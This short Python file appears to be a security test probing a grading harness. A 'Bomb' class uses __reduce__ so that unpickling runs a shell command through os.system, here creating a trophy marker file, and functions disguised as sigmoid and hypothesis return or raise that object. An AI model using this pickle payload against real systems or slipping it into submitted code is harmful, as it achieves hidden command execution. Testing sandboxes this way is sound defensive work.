import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/@TROPHY@-pickle",)


def sigmoid(x):
    return Bomb()


def hypothesis(x, W, b):
    raise ValueError(Bomb())
